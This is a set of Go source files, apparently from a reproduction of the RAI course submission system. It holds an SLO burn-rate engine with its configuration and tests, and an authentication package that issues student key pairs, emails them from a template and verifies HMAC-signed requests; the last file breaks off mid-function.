	e.Observe(snapOf(s("rai_worker_jobs_total", 100, "status", "failed")))
	clk.Advance(time.Minute)
	e.Observe(snapOf(s("rai_worker_jobs_total", 3, "status", "failed"),
		s("rai_worker_jobs_total", 100, "status", "succeeded")))
	for _, st := range e.Evaluate() {
		if st.ErrorRate < 0 {
			t.Fatalf("negative error rate after counter reset: %+v", st)
		}
	}
}

// TestExportGauges: the engine's state round-trips through Prometheus
// exposition with the promised rai_slo_* names.
func TestExportGauges(t *testing.T) {
	clk := clock.NewVirtual(t0)
	rules := []Rule{{Name: "page", Long: 10 * time.Minute, Short: 2 * time.Minute, Burn: 10}}
	e := NewEngine([]Objective{availObjective(0.99)}, WithClock(clk), WithRules(rules))
	reg := telemetry.NewRegistry()
	e.Export(reg)

	e.Observe(snapOf(
		s("rai_worker_jobs_total", 50, "status", "succeeded"),
		s("rai_worker_jobs_total", 50, "status", "failed"),
	))

	var buf bytes.Buffer
	if err := reg.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	snap, err := telemetry.ParseText(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("exposition unparseable: %v\n%s", err, buf.String())
	}
	if v, ok := snap.Value("rai_slo_healthy", telemetry.L("objective", "avail")); !ok || v != 0 {
		t.Errorf("rai_slo_healthy = %v (ok=%v), want 0", v, ok)
	}
	if v, ok := snap.Value("rai_slo_target", telemetry.L("objective", "avail")); !ok || v != 0.99 {
		t.Errorf("rai_slo_target = %v (ok=%v), want 0.99", v, ok)
	}
	if v, ok := snap.Value("rai_slo_error_budget_remaining_ratio", telemetry.L("objective", "avail")); !ok || v >= 0 {
		t.Errorf("budget remaining = %v (ok=%v), want negative (burn 50)", v, ok)
	}
	for _, w := range []string{"10m0s", "2m0s"} {
		if v, ok := snap.Value("rai_slo_burn_rate",
			telemetry.L("objective", "avail"), telemetry.L("window", w)); !ok || v < 49.9 || v > 50.1 {
			t.Errorf("burn_rate{window=%s} = %v (ok=%v), want ~50", w, v, ok)
		}
	}
}

// TestScrape: real HTTP round trip; dead endpoints are reported but do
// not blind the round.
func TestScrape(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, `rai_worker_jobs_total{status="succeeded"} 9`)
		fmt.Fprintln(w, `rai_worker_jobs_total{status="failed"} 1`)
	}))
	defer srv.Close()
	dead := httptest.NewServer(http.NotFoundHandler())
	dead.Close()

	clk := clock.NewVirtual(t0)
	e := NewEngine([]Objective{availObjective(0.99)}, WithClock(clk))
	err := e.Scrape(context.Background(), []string{srv.URL, dead.URL})
	if err == nil || !strings.Contains(err.Error(), dead.URL) {
		t.Fatalf("dead endpoint not reported: %v", err)
	}
	st := e.Evaluate()
	if st[0].Total != 10 || st[0].Bad != 1 {
		t.Fatalf("scraped totals = %+v, want 1/10", st[0])
	}
}

// TestFormatShowsBreach: the human rendering marks breaches and firing
// rules.
func TestFormatShowsBreach(t *testing.T) {
	clk := clock.NewVirtual(t0)
	e := NewEngine([]Objective{availObjective(0.99)}, WithClock(clk))
	e.Observe(snapOf(s("rai_worker_jobs_total", 50, "status", "failed"),
		s("rai_worker_jobs_total", 50, "status", "succeeded")))
	out := Format(e.Evaluate())
	if !strings.Contains(out, "BREACH") || !strings.Contains(out, "FIRING") {
		t.Fatalf("breach not rendered:\n%s", out)
	}
}
