// Package slo evaluates service-level objectives against the
// telemetry the daemons already export. An Objective declares a
// RED-style target — availability (bad/total counters) or latency (a
// histogram and a threshold) — and the Engine turns periodic scrape
// snapshots into multi-window burn rates, the SRE-workbook alerting
// construct: an alert fires only when both a long and a short window
// burn error budget faster than the rule allows, so sustained damage
// pages quickly while blips and stale incidents do not.
package slo

import (
	"encoding/json"
	"fmt"
	"strconv"
	"time"
)

// Selector names a metric family plus the label subset a sample must
// carry to count. Samples from every scraped endpoint that match are
// summed, so one objective naturally aggregates a worker fleet.
type Selector struct {
	Name   string            `json:"name"`
	Labels map[string]string `json:"labels,omitempty"`
}

// Objective is one declared SLO. Exactly one of the two forms must be
// set: availability (Total + Bad counters) or latency (Histogram +
// ThresholdSeconds, where a request is good when it lands in a bucket
// at or under the threshold).
type Objective struct {
	Name        string  `json:"name"`
	Description string  `json:"description,omitempty"`
	// Target is the fraction of good requests promised, e.g. 0.99.
	Target float64 `json:"target"`

	// Availability form.
	Total *Selector `json:"total,omitempty"`
	Bad   *Selector `json:"bad,omitempty"`

	// Latency form. The threshold should sit on a bucket edge of the
	// histogram; otherwise the next edge above it is used (documented
	// exposition-side quantization, not a silent lie).
	Histogram        *Selector `json:"histogram,omitempty"`
	ThresholdSeconds float64   `json:"threshold_s,omitempty"`
}

// Validate reports whether the objective is well-formed.
func (o *Objective) Validate() error {
	if o.Name == "" {
		return fmt.Errorf("slo: objective without a name")
	}
	if o.Target <= 0 || o.Target >= 1 {
		return fmt.Errorf("slo: objective %s: target %v outside (0,1)", o.Name, o.Target)
	}
	avail := o.Total != nil && o.Bad != nil
	lat := o.Histogram != nil
	switch {
	case avail && lat:
		return fmt.Errorf("slo: objective %s declares both availability and latency forms", o.Name)
	case avail:
		if o.Total.Name == "" || o.Bad.Name == "" {
			return fmt.Errorf("slo: objective %s: empty selector name", o.Name)
		}
	case lat:
		if o.Histogram.Name == "" {
			return fmt.Errorf("slo: objective %s: empty histogram name", o.Name)
		}
		if o.ThresholdSeconds <= 0 {
			return fmt.Errorf("slo: objective %s: latency threshold must be positive", o.Name)
		}
	default:
		return fmt.Errorf("slo: objective %s declares neither availability (total+bad) nor latency (histogram+threshold_s)", o.Name)
	}
	return nil
}

// Rule is one multi-window burn-rate alert: it fires when the error
// budget burns at >= Burn× the sustainable rate over BOTH windows.
type Rule struct {
	Name  string        `json:"name"`
	Long  time.Duration `json:"-"`
	Short time.Duration `json:"-"`
	// Burn is the burn-rate threshold (1.0 = spending budget exactly at
	// the rate that exhausts it at the window's end of the SLO period).
	Burn float64 `json:"burn"`
}

// ruleJSON is the wire form of Rule, with Go duration strings.
type ruleJSON struct {
	Name  string  `json:"name"`
	Long  string  `json:"long"`
	Short string  `json:"short"`
	Burn  float64 `json:"burn"`
}

// MarshalJSON renders durations as strings ("1h0m0s").
func (r Rule) MarshalJSON() ([]byte, error) {
	return json.Marshal(ruleJSON{Name: r.Name, Long: r.Long.String(), Short: r.Short.String(), Burn: r.Burn})
}

// UnmarshalJSON parses durations from strings ("1h", "5m").
func (r *Rule) UnmarshalJSON(data []byte) error {
	var w ruleJSON
	if err := json.Unmarshal(data, &w); err != nil {
		return err
	}
	long, err := time.ParseDuration(w.Long)
	if err != nil {
		return fmt.Errorf("slo: rule %s: bad long window %q: %v", w.Name, w.Long, err)
	}
	short, err := time.ParseDuration(w.Short)
	if err != nil {
		return fmt.Errorf("slo: rule %s: bad short window %q: %v", w.Name, w.Short, err)
	}
	*r = Rule{Name: w.Name, Long: long, Short: short, Burn: w.Burn}
	return nil
}

func (r Rule) validate() error {
	if r.Name == "" {
		return fmt.Errorf("slo: rule without a name")
	}
	if r.Long <= 0 || r.Short <= 0 || r.Short > r.Long {
		return fmt.Errorf("slo: rule %s: need 0 < short <= long, got long %v short %v", r.Name, r.Long, r.Short)
	}
	if r.Burn <= 0 {
		return fmt.Errorf("slo: rule %s: burn threshold must be positive", r.Name)
	}
	return nil
}

// Config is the on-disk declaration raiadmin loads with -slo.
type Config struct {
	Objectives []Objective `json:"objectives"`
	// Rules override DefaultRules when non-empty.
	Rules []Rule `json:"rules,omitempty"`
}

// ParseConfig decodes and validates a JSON config.
func ParseConfig(data []byte) (*Config, error) {
	var c Config
	if err := json.Unmarshal(data, &c); err != nil {
		return nil, fmt.Errorf("slo: parsing config: %w", err)
	}
	if len(c.Objectives) == 0 {
		return nil, fmt.Errorf("slo: config declares no objectives")
	}
	seen := map[string]bool{}
	for i := range c.Objectives {
		o := &c.Objectives[i]
		if err := o.Validate(); err != nil {
			return nil, err
		}
		if seen[o.Name] {
			return nil, fmt.Errorf("slo: duplicate objective %s", o.Name)
		}
		seen[o.Name] = true
	}
	for _, r := range c.Rules {
		if err := r.validate(); err != nil {
			return nil, err
		}
	}
	return &c, nil
}

// DefaultRules are the SRE-workbook pair: fast burn pages, slow burn
// tickets. Burn thresholds assume a 30-day budget period (14.4 = 2% of
// budget in 1 h; 6 = 5% in 6 h).
func DefaultRules() []Rule {
	return []Rule{
		{Name: "page", Long: time.Hour, Short: 5 * time.Minute, Burn: 14.4},
		{Name: "ticket", Long: 6 * time.Hour, Short: 30 * time.Minute, Burn: 6},
	}
}

// DefaultObjectives cover the deployment's user-visible promises using
// series every stock daemon already exports: job success, job latency,
// queue delay, and storage latency.
func DefaultObjectives() []Objective {
	return []Objective{
		{
			Name:        "worker-availability",
			Description: "jobs finish without system failure",
			Target:      0.99,
			Total:       &Selector{Name: "rai_worker_jobs_total"},
			Bad:         &Selector{Name: "rai_worker_jobs_total", Labels: map[string]string{"status": "failed"}},
		},
		{
			Name:             "worker-latency",
			Description:      "jobs complete within a minute of dequeue",
			Target:           0.95,
			Histogram:        &Selector{Name: "rai_worker_job_seconds"},
			ThresholdSeconds: 60,
		},
		{
			Name:             "queue-delay",
			Description:      "jobs wait under 30s for a worker",
			Target:           0.95,
			Histogram:        &Selector{Name: "rai_queue_delay_seconds"},
			ThresholdSeconds: 30,
		},
		{
			Name:             "objstore-latency",
			Description:      "file-server requests finish within 1s",
			Target:           0.99,
			Histogram:        &Selector{Name: "rai_objstore_request_seconds"},
			ThresholdSeconds: 1,
		},
	}
}

// parseLE parses a bucket's le label ("+Inf" included).
func parseLE(s string) (float64, bool) {
	if s == "+Inf" {
		return inf, true
	}
	v, err := strconv.ParseFloat(s, 64)
	return v, err == nil
}
