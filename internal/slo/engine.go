package slo

import (
	"fmt"
	"math"
	"sort"
	"sync"
	"time"

	"rai/internal/clock"
	"rai/internal/telemetry"
)

var inf = math.Inf(1)

// sample is one cumulative (bad, total) reading for an objective.
type sample struct {
	t          time.Time
	bad, total float64
}

// Engine turns periodic scrape snapshots into burn rates. Feed it with
// Observe on every scrape tick; read it with Evaluate, or hang its
// gauges off a registry with Export. Safe for concurrent use.
type Engine struct {
	clk   clock.Clock
	objs  []Objective
	rules []Rule

	mu   sync.Mutex
	hist map[string][]sample
}

// Option configures NewEngine.
type Option func(*Engine)

// WithClock injects a time source (virtual in tests).
func WithClock(clk clock.Clock) Option { return func(e *Engine) { e.clk = clk } }

// WithRules replaces DefaultRules.
func WithRules(rules []Rule) Option { return func(e *Engine) { e.rules = rules } }

// NewEngine builds an engine over the given objectives (DefaultObjectives
// when empty). Objectives are assumed validated.
func NewEngine(objs []Objective, opts ...Option) *Engine {
	if len(objs) == 0 {
		objs = DefaultObjectives()
	}
	e := &Engine{
		clk:   clock.Real{},
		objs:  objs,
		rules: DefaultRules(),
		hist:  map[string][]sample{},
	}
	for _, opt := range opts {
		opt(e)
	}
	return e
}

// Objectives returns the declared objectives (callers must not mutate).
func (e *Engine) Objectives() []Objective { return e.objs }

// Rules returns the active burn-rate rules.
func (e *Engine) Rules() []Rule { return e.rules }

// Observe folds one scrape round into the history: each objective's
// (bad, total) is summed across all snapshots (a worker fleet scrapes
// as several endpoints) and recorded at the engine clock's now.
func (e *Engine) Observe(snaps ...*telemetry.Snapshot) {
	now := e.clk.Now()
	keep := 2 * e.maxWindow()
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, o := range e.objs {
		bad, total := counts(&o, snaps)
		h := append(e.hist[o.Name], sample{t: now, bad: bad, total: total})
		// Prune anything older than twice the longest window.
		cut := 0
		for cut < len(h)-1 && now.Sub(h[cut].t) > keep {
			cut++
		}
		e.hist[o.Name] = h[cut:]
	}
}

func (e *Engine) maxWindow() time.Duration {
	max := time.Minute
	for _, r := range e.rules {
		if r.Long > max {
			max = r.Long
		}
	}
	return max
}

// counts resolves an objective's cumulative (bad, total) over a scrape
// round.
func counts(o *Objective, snaps []*telemetry.Snapshot) (bad, total float64) {
	if o.Histogram == nil {
		return sumMatch(snaps, o.Bad), sumMatch(snaps, o.Total)
	}
	countSel := Selector{Name: o.Histogram.Name + "_count", Labels: o.Histogram.Labels}
	total = sumMatch(snaps, &countSel)
	good := bucketSum(snaps, o.Histogram, o.ThresholdSeconds)
	bad = total - good
	if bad < 0 {
		bad = 0
	}
	return bad, total
}

// sumMatch sums every sample matching the selector across all
// snapshots. A sample matches when its name equals sel.Name and it
// carries every label in sel.Labels with the exact value (extra labels
// are fine — that is what lets one selector aggregate statuses).
func sumMatch(snaps []*telemetry.Snapshot, sel *Selector) float64 {
	var sum float64
	for _, snap := range snaps {
		if snap == nil {
			continue
		}
		for _, s := range snap.Samples {
			if s.Name != sel.Name || !labelsMatch(s.Labels, sel.Labels) {
				continue
			}
			sum += s.Value
		}
	}
	return sum
}

func labelsMatch(have, want map[string]string) bool {
	for k, v := range want {
		if have[k] != v {
			return false
		}
	}
	return true
}

// bucketSum sums the cumulative histogram bucket at the smallest edge
// >= threshold — the count of requests at or under the threshold. When
// the threshold exceeds every finite edge the +Inf bucket is used
// (everything counts as good; the objective is toothless and the
// operator declared a threshold off the histogram's scale).
func bucketSum(snaps []*telemetry.Snapshot, sel *Selector, threshold float64) float64 {
	name := sel.Name + "_bucket"
	// Pass 1: the smallest edge >= threshold present anywhere (bucket
	// layouts are per-family constants, so all sources agree).
	edge := inf
	const slack = 1e-9 // float-format tolerance: 0.1 printed and re-parsed stays 0.1, but guard anyway
	for _, snap := range snaps {
		if snap == nil {
			continue
		}
		for _, s := range snap.Samples {
			if s.Name != name || !labelsMatch(s.Labels, sel.Labels) {
				continue
			}
			le, ok := parseLE(s.Labels["le"])
			if !ok {
				continue
			}
			if le >= threshold*(1-slack) && le < edge {
				edge = le
			}
		}
	}
	// Pass 2: sum that bucket across sources.
	var sum float64
	for _, snap := range snaps {
		if snap == nil {
			continue
		}
		for _, s := range snap.Samples {
			if s.Name != name || !labelsMatch(s.Labels, sel.Labels) {
				continue
			}
			if le, ok := parseLE(s.Labels["le"]); ok && le == edge {
				sum += s.Value
			}
		}
	}
	return sum
}

// errRate computes the bad/total ratio over the trailing window,
// locked. With a single observation the delta is taken from zero —
// i.e. the counters' whole lifetime — which is what makes a one-shot
// `raiadmin health` meaningful against daemons scraped only once.
func (e *Engine) errRate(name string, window time.Duration) float64 {
	h := e.hist[name]
	if len(h) == 0 {
		return 0
	}
	latest := h[len(h)-1]
	start := e.clk.Now().Add(-window)
	// Baseline: the newest sample at or before the window start; the
	// oldest sample when history is shorter than the window (honest
	// degradation — the rate covers what was actually seen).
	base := sample{}
	found := false
	for i := len(h) - 1; i >= 0; i-- {
		if !h[i].t.After(start) {
			base = h[i]
			found = true
			break
		}
	}
	if !found && len(h) > 1 {
		base = h[0]
	}
	dBad, dTotal := latest.bad-base.bad, latest.total-base.total
	if dTotal <= 0 {
		return 0
	}
	if dBad < 0 {
		dBad = 0 // counter reset (daemon restart): clamp, never negative
	}
	return dBad / dTotal
}

// burn converts an error rate into a burn rate for the objective's
// budget: 1.0 means spending exactly the budget, N means N× too fast.
func burn(errRate, target float64) float64 {
	budget := 1 - target
	if budget <= 0 {
		return 0
	}
	return errRate / budget
}

// RuleStatus is one rule evaluated for one objective.
type RuleStatus struct {
	Rule      Rule    `json:"rule"`
	LongBurn  float64 `json:"long_burn"`
	ShortBurn float64 `json:"short_burn"`
	// Firing means both windows burn above the rule's threshold.
	Firing bool `json:"firing"`
}

// ObjectiveStatus is one objective's full evaluation.
type ObjectiveStatus struct {
	Name        string  `json:"name"`
	Description string  `json:"description,omitempty"`
	Target      float64 `json:"target"`
	// Bad/Total are the latest cumulative readings.
	Bad   float64 `json:"bad"`
	Total float64 `json:"total"`
	// ErrorRate is measured over the longest rule window.
	ErrorRate float64 `json:"error_rate"`
	// BudgetRemaining is 1 - ErrorRate/(1-Target): 1 with a clean
	// window, 0 at the SLO boundary, negative when overspent.
	BudgetRemaining float64      `json:"budget_remaining"`
	Rules           []RuleStatus `json:"rules"`
	// Healthy means no rule is firing.
	Healthy bool `json:"healthy"`
}

// Evaluate computes every objective's burn rates and rule verdicts.
// Results are sorted by objective name.
func (e *Engine) Evaluate() []ObjectiveStatus {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]ObjectiveStatus, 0, len(e.objs))
	longest := e.maxWindow()
	for _, o := range e.objs {
		st := ObjectiveStatus{
			Name: o.Name, Description: o.Description, Target: o.Target, Healthy: true,
		}
		if h := e.hist[o.Name]; len(h) > 0 {
			st.Bad, st.Total = h[len(h)-1].bad, h[len(h)-1].total
		}
		st.ErrorRate = e.errRate(o.Name, longest)
		st.BudgetRemaining = 1 - burn(st.ErrorRate, o.Target)
		for _, r := range e.rules {
			rs := RuleStatus{
				Rule:      r,
				LongBurn:  burn(e.errRate(o.Name, r.Long), o.Target),
				ShortBurn: burn(e.errRate(o.Name, r.Short), o.Target),
			}
			rs.Firing = rs.LongBurn >= r.Burn && rs.ShortBurn >= r.Burn
			if rs.Firing {
				st.Healthy = false
			}
			st.Rules = append(st.Rules, rs)
		}
		out = append(out, st)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// Healthy reports whether every objective in statuses is healthy.
func Healthy(statuses []ObjectiveStatus) bool {
	for _, st := range statuses {
		if !st.Healthy {
			return false
		}
	}
	return true
}

// Export registers the engine's state as live gauges:
//
//	rai_slo_burn_rate{objective,window}          burn over each rule window
//	rai_slo_error_budget_remaining_ratio{objective}
//	rai_slo_healthy{objective}                   1 when no rule fires
//	rai_slo_target{objective}
//
// Values are computed at scrape time from the current history.
func (e *Engine) Export(reg *telemetry.Registry) {
	if reg == nil {
		return
	}
	// One burn-rate series per distinct window across all rules.
	windows := map[time.Duration]bool{}
	for _, r := range e.rules {
		windows[r.Long] = true
		windows[r.Short] = true
	}
	for _, o := range e.objs {
		o := o
		for w := range windows {
			w := w
			reg.GaugeFunc("rai_slo_burn_rate",
				"error-budget burn rate over the trailing window (1 = exactly on budget)",
				func() float64 {
					e.mu.Lock()
					defer e.mu.Unlock()
					return burn(e.errRate(o.Name, w), o.Target)
				},
				telemetry.L("objective", o.Name), telemetry.L("window", w.String()))
		}
		reg.GaugeFunc("rai_slo_error_budget_remaining_ratio",
			"fraction of error budget left over the longest window (negative = overspent)",
			func() float64 {
				e.mu.Lock()
				defer e.mu.Unlock()
				return 1 - burn(e.errRate(o.Name, e.maxWindow()), o.Target)
			},
			telemetry.L("objective", o.Name))
		reg.GaugeFunc("rai_slo_healthy",
			"1 when no burn-rate rule fires for the objective",
			func() float64 {
				for _, st := range e.Evaluate() {
					if st.Name == o.Name {
						if st.Healthy {
							return 1
						}
						return 0
					}
				}
				return 1
			},
			telemetry.L("objective", o.Name))
		reg.Gauge("rai_slo_target", "declared SLO target",
			telemetry.L("objective", o.Name)).Set(o.Target)
	}
}

// Format renders statuses as an aligned human-readable table, one
// objective per line plus a line per firing rule.
func Format(statuses []ObjectiveStatus) string {
	out := ""
	for _, st := range statuses {
		state := "ok"
		if !st.Healthy {
			state = "BREACH"
		}
		out += fmt.Sprintf("%-22s %-6s target=%.3f err=%.4f budget=%+.2f bad=%.0f total=%.0f\n",
			st.Name, state, st.Target, st.ErrorRate, st.BudgetRemaining, st.Bad, st.Total)
		for _, rs := range st.Rules {
			if rs.Firing {
				out += fmt.Sprintf("  rule %-8s FIRING burn long[%v]=%.1f short[%v]=%.1f (threshold %.1f)\n",
					rs.Rule.Name, rs.Rule.Long, rs.LongBurn, rs.Rule.Short, rs.ShortBurn, rs.Rule.Burn)
			}
		}
	}
	return out
}
