package auth

import (
	"encoding/csv"
	"fmt"
	"sort"
	"strings"
	"sync"
	"text/template"
)

// Student is one roster row ({firstname,lastname,userid}, paper §VI).
type Student struct {
	FirstName string
	LastName  string
	UserID    string
}

// ParseRoster reads the comma-separated class roster. A header row of
// exactly "firstname,lastname,userid" is skipped if present.
func ParseRoster(data []byte) ([]Student, error) {
	r := csv.NewReader(strings.NewReader(string(data)))
	r.FieldsPerRecord = 3
	r.TrimLeadingSpace = true
	rows, err := r.ReadAll()
	if err != nil {
		return nil, fmt.Errorf("auth: roster: %w", err)
	}
	var out []Student
	seen := map[string]bool{}
	for i, row := range rows {
		if i == 0 && strings.EqualFold(row[0], "firstname") {
			continue
		}
		s := Student{
			FirstName: strings.TrimSpace(row[0]),
			LastName:  strings.TrimSpace(row[1]),
			UserID:    strings.TrimSpace(row[2]),
		}
		if s.UserID == "" {
			return nil, fmt.Errorf("auth: roster row %d: empty userid", i+1)
		}
		if seen[s.UserID] {
			return nil, fmt.Errorf("auth: roster row %d: duplicate userid %q", i+1, s.UserID)
		}
		seen[s.UserID] = true
		out = append(out, s)
	}
	return out, nil
}

// EmailTemplate is the default authorization email (paper Listing 3,
// abbreviated exactly as published).
const EmailTemplate = `Hello {{.FirstName}} {{.LastName}},

For the Applied Parallel Programming project,
we will not be using WebGPU. The RAI submission
requires authentication tokens to be present
in your $HOME/.rai.profile (Linux/OSX) or
%HOME%/.rai.profile (Windows) file.

The following are your tokens:

RAI_USER_NAME='{{.UserName}}'
RAI_ACCESS_KEY='{{.AccessKey}}'
RAI_SECRET_KEY='{{.SecretKey}}'
`

// Email is a rendered message waiting in the outbox.
type Email struct {
	To      string
	Subject string
	Body    string
}

// Outbox collects rendered emails. Production would hand these to an
// SMTP relay; the reproduction records them for inspection, which is
// also how the tests assert on Listing 3.
type Outbox struct {
	mu     sync.Mutex
	emails []Email
}

// Send appends a message.
func (o *Outbox) Send(e Email) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.emails = append(o.emails, e)
}

// Messages returns a copy of the queued messages.
func (o *Outbox) Messages() []Email {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]Email(nil), o.emails...)
}

// KeyMailer drives the §VI workflow: roster in, registered credentials
// plus one templated email per student out.
type KeyMailer struct {
	Registry *Registry
	Outbox   *Outbox
	// Template overrides EmailTemplate when non-empty.
	Template string
	// Domain forms the To address as userid@Domain.
	Domain string
	// Subject line for the emails.
	Subject string
}

// emailData is the template context.
type emailData struct {
	FirstName, LastName, UserName, AccessKey, SecretKey string
}

// Run issues credentials for every roster student and queues their
// email. It returns the issued credentials keyed by userid.
func (k *KeyMailer) Run(roster []Student) (map[string]Credentials, error) {
	tmplText := k.Template
	if tmplText == "" {
		tmplText = EmailTemplate
	}
	tmpl, err := template.New("email").Parse(tmplText)
	if err != nil {
		return nil, fmt.Errorf("auth: email template: %w", err)
	}
	domain := k.Domain
	if domain == "" {
		domain = "illinois.edu"
	}
	subject := k.Subject
	if subject == "" {
		subject = "RAI authorization keys for the course project"
	}
	issued := make(map[string]Credentials, len(roster))
	for _, s := range roster {
		c, err := k.Registry.Issue(s.UserID)
		if err != nil {
			return issued, err
		}
		issued[s.UserID] = c
		var body strings.Builder
		if err := tmpl.Execute(&body, emailData{
			FirstName: s.FirstName, LastName: s.LastName,
			UserName: c.UserName, AccessKey: c.AccessKey, SecretKey: c.SecretKey,
		}); err != nil {
			return issued, fmt.Errorf("auth: rendering email for %s: %w", s.UserID, err)
		}
		k.Outbox.Send(Email{To: s.UserID + "@" + domain, Subject: subject, Body: body.String()})
	}
	return issued, nil
}

// Team groups students under one shared credential (the project is done
// in teams of 2–4, paper §I).
type Team struct {
	Name    string
	Members []string // userids
}

// IssueTeams registers one credential per team and returns them keyed by
// team name; member lists are preserved (sorted) for grading exports.
func IssueTeams(reg *Registry, teams []Team) (map[string]Credentials, error) {
	out := make(map[string]Credentials, len(teams))
	for _, t := range teams {
		if t.Name == "" {
			return nil, fmt.Errorf("auth: team with empty name")
		}
		c, err := reg.Issue(t.Name)
		if err != nil {
			return nil, err
		}
		sort.Strings(t.Members)
		out[t.Name] = c
	}
	return out, nil
}
