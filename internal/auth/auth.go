// Package auth implements RAI's authentication machinery: per-student
// (or per-team) access/secret key pairs, HMAC request signing, the class
// roster workflow that generates and emails keys (paper §VI "Sending
// Authorization Keys", Listing 3), and the $HOME/.rai.profile file the
// client reads.
package auth

import (
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"crypto/subtle"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"

	"rai/internal/clock"
)

// Credentials uniquely identify a student or team.
type Credentials struct {
	UserName  string `json:"user_name"`
	AccessKey string `json:"access_key"`
	SecretKey string `json:"secret_key"`
}

// Errors reported by this package.
var (
	ErrUnknownAccessKey = errors.New("auth: unknown access key")
	ErrBadSignature     = errors.New("auth: signature mismatch")
	ErrStaleRequest     = errors.New("auth: request timestamp outside allowed skew")
	ErrProfileSyntax    = errors.New("auth: malformed .rai.profile")
	ErrDuplicateUser    = errors.New("auth: user already registered")
)

// keyAlphabet matches the shape of the paper's example keys
// (BsqJuFUI2ZtK4g1aLXf-OjmML6): letters, digits, '-'.
const keyAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-"

// keyLen is the generated key length (as in Listing 3).
const keyLen = 26

// GenerateKey returns a fresh random key.
func GenerateKey() string {
	var b [keyLen]byte
	if _, err := rand.Read(b[:]); err != nil {
		panic("auth: crypto/rand unavailable: " + err.Error())
	}
	for i := range b {
		b[i] = keyAlphabet[int(b[i])%len(keyAlphabet)]
	}
	return string(b[:])
}

// NewCredentials mints a key pair for userName.
func NewCredentials(userName string) Credentials {
	return Credentials{UserName: userName, AccessKey: GenerateKey(), SecretKey: GenerateKey()}
}

// Registry stores issued credentials and validates requests. It is safe
// for concurrent use.
type Registry struct {
	mu     sync.RWMutex
	byAK   map[string]Credentials
	byUser map[string]Credentials
	// MaxSkew bounds |now - request date| during verification.
	MaxSkew time.Duration
	now     func() time.Time
}

// NewRegistry returns an empty registry with a 15-minute skew allowance.
func NewRegistry() *Registry {
	return &Registry{
		byAK:    map[string]Credentials{},
		byUser:  map[string]Credentials{},
		MaxSkew: 15 * time.Minute,
		now:     clock.Real{}.Now,
	}
}

// SetClock overrides the verification time source.
func (r *Registry) SetClock(now func() time.Time) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.now = now
}

// Register adds credentials; registering the same user twice is an error.
func (r *Registry) Register(c Credentials) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, ok := r.byUser[c.UserName]; ok {
		return fmt.Errorf("%w: %q", ErrDuplicateUser, c.UserName)
	}
	r.byAK[c.AccessKey] = c
	r.byUser[c.UserName] = c
	return nil
}

// Issue mints and registers credentials for userName.
func (r *Registry) Issue(userName string) (Credentials, error) {
	c := NewCredentials(userName)
	if err := r.Register(c); err != nil {
		return Credentials{}, err
	}
	return c, nil
}

// Revoke removes a user's credentials.
func (r *Registry) Revoke(userName string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if c, ok := r.byUser[userName]; ok {
		delete(r.byAK, c.AccessKey)
		delete(r.byUser, userName)
	}
}

// LookupUser finds credentials by user name.
func (r *Registry) LookupUser(userName string) (Credentials, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	c, ok := r.byUser[userName]
	return c, ok
}

// Lookup finds credentials by access key.
func (r *Registry) Lookup(accessKey string) (Credentials, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	c, ok := r.byAK[accessKey]
	return c, ok
}

// Users lists registered user names, sorted.
func (r *Registry) Users() []string {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]string, 0, len(r.byUser))
	for u := range r.byUser {
		out = append(out, u)
	}
	sort.Strings(out)
	return out
}

// ---- request signing ----

// Header names attached to signed requests.
const (
	HeaderAccessKey = "X-RAI-Access-Key"
	HeaderSignature = "X-RAI-Signature"
	HeaderDate      = "X-RAI-Date"
)

// signaturePayload canonicalizes the signed content.
func signaturePayload(method, path, date string, bodyHash []byte) []byte {
	return []byte(method + "\n" + path + "\n" + date + "\n" + hex.EncodeToString(bodyHash))
}

// Sign computes the request signature over (method, path, date, body).
func Sign(secretKey, method, path, date string, body []byte) string {
	bodySum := sha256.Sum256(body)
	mac := hmac.New(sha256.New, []byte(secretKey))
	mac.Write(signaturePayload(method, path, date, bodySum[:]))
	return hex.EncodeToString(mac.Sum(nil))
}

// SignRequest attaches credentials and a signature to an HTTP request.
// The body must be provided separately because http.Request bodies are
// single-read.
func SignRequest(req *http.Request, c Credentials, body []byte, now time.Time) {
	date := now.UTC().Format(time.RFC3339)
	req.Header.Set(HeaderAccessKey, c.AccessKey)
	req.Header.Set(HeaderDate, date)
	req.Header.Set(HeaderSignature, Sign(c.SecretKey, req.Method, req.URL.Path, date, body))
}

// Verify checks a signature against the registry.
func (r *Registry) Verify(accessKey, signature, method, path, date string, body []byte) error {
	c, ok := r.Lookup(accessKey)
	if !ok {
		return ErrUnknownAccessKey
	}
	ts, err := time.Parse(time.RFC3339, date)
	if err != nil {
		return fmt.Errorf("%w: bad date %q", ErrStaleRequest, date)
	}
	r.mu.RLock()
	now := r.now()
	skew := r.MaxSkew
	r.mu.RUnlock()
	if d := now.Sub(ts); d > skew || d < -skew {
		return fmt.Errorf("%w: %v from now", ErrStaleRequest, d)
	}
	want := Sign(c.SecretKey, method, path, date, body)
	if subtle.ConstantTimeCompare([]byte(want), []byte(signature)) != 1 {
		return ErrBadSignature
	}
	return nil
}

// VerifyToken implements the lighter check used on non-HTTP paths (queue
// messages): the token is HMAC(secret, payload).
func (r *Registry) VerifyToken(accessKey, token string, payload []byte) error {
	c, ok := r.Lookup(accessKey)
	if !ok {
		return ErrUnknownAccessKey
	}
	mac := hmac.New(sha256.New, []byte(c.SecretKey))
	mac.Write(payload)
	want := hex.EncodeToString(mac.Sum(nil))
	if subtle.ConstantTimeCompare([]byte(want), []byte(token)) != 1 {
